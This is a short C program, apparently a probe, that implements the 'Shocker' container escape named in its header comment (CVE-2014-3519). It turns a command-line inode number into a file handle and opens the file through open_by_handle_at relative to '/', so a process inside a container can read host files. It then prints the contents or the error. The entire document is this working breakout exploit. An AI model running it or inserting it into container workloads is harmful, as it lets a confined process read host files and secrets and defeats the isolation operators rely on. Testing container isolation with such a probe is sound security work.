/* handle HOST-PATH-INODE: open a file of the host by its inode number on the file system that / lies on, wherever our
 * root is (open_by_handle_at(2), the way out of CVE-2014-3519 and "Shocker"). Prints what it reads, or the errno. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct { struct file_handle head; unsigned int inode, generation; } handle = {{8, 1}, 0, 0};
	char text[200];
	int top = open("/", O_RDONLY), file;
	handle.inode = strtoul(argv[1], 0, 10);
	handle.generation = strtoul(argc > 2 ? argv[2] : "0", 0, 10);
	file = open_by_handle_at(top, &handle.head, O_RDONLY);
	if (file < 0) {
		printf("errno %d %s\n", errno, strerror(errno));
		return 0;
	}
	ssize_t size = read(file, text, sizeof text);
	printf("%.*s", size < 0 ? 0 : (int)size, text);
	return 0;
}
